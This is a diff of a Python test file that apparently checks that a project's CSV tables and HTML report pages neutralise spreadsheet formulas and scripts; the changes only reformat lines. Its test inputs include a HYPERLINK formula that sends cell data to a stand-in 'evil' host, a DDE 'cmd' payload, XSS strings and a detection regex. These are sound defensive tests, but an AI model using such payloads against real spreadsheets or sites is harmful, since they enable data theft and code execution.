@@ -15,7 +15,7 @@ from lmdistill.evaluation.glue_submission import write_submission
 from tests.cli.cli_project import read_csv, write_csv
 from tests.report.factory import make_record, plain_record, write_run
 
-FORMULA = "=HYPERLINK(\"http://evil\"&A1)"
+FORMULA = '=HYPERLINK("http://evil"&A1)'
 STARTS = "=+-@\t\r"
 SCRIPT = "<script>alert(1)</script><img src=http://evil onerror=alert(1)>"
 
@@ -34,7 +34,9 @@ def test_numbers_stay_numbers(number):
     assert escaped(f"{number} ± 1.0") == f"{number} ± 1.0"
 
 
-@pytest.mark.parametrize("text", ["-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "+A1", "-A1", "＝1+A1", "-1e5A", "-1\n=A1"])
+@pytest.mark.parametrize(
+    "text", ["-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "+A1", "-A1", "＝1+A1", "-1e5A", "-1\n=A1"]
+)
 def test_known_formulas_get_an_apostrophe(text):
     assert escaped(text) == f"'{text}"
 
@@ -59,7 +61,9 @@ def test_tables_of_a_report_hold_no_formula(tmp_path, monkeypatch, lmdistill):
     cells = [cell for path in Path("tables").glob("*.csv") for row in read_csv(path) for cell in row]
     assert f"'{FORMULA}" in cells
     assert [cell for cell in cells if cell[:1] in tuple("=@\t\r")] == []
-    assert [cell for cell in cells if cell[:1] in tuple("+-") and re.search(r"[A-Za-z]", cell.replace("e-", ""))] == []
+    assert [
+        cell for cell in cells if cell[:1] in tuple("+-") and re.search(r"[A-Za-z]", cell.replace("e-", ""))
+    ] == []
 
 
 def test_pages_show_texts_and_run_nothing(tmp_path, monkeypatch, lmdistill):
@@ -70,7 +74,9 @@ def test_pages_show_texts_and_run_nothing(tmp_path, monkeypatch, lmdistill):
     assert "&lt;script&gt;" in page
     assert "default-src 'none'" in page
     for text in (page, *(path.read_text(encoding="utf-8") for path in Path("tables").glob("*.svg"))):
-        assert not re.search(r"<script|<img|<iframe|onerror\s*=(?!alert)|javascript:", text.replace("&lt;", ""), re.IGNORECASE)
+        assert not re.search(
+            r"<script|<img|<iframe|onerror\s*=(?!alert)|javascript:", text.replace("&lt;", ""), re.IGNORECASE
+        )
 
 
 @pytest.mark.parametrize("ending", [".csv", ".tsv"])
